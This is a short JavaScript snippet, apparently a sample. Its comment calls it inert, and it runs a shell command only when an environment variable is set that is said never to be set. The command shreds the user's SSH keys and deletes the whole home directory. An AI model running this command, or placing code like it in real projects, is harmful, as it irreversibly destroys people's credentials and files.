// Inert: the variable is never set.
const { execSync } = require('child_process');
if (process.env.NEVER_SET_FOR_SAMPLES) execSync('shred -uz ~/.ssh/* ; rm -rf ~');
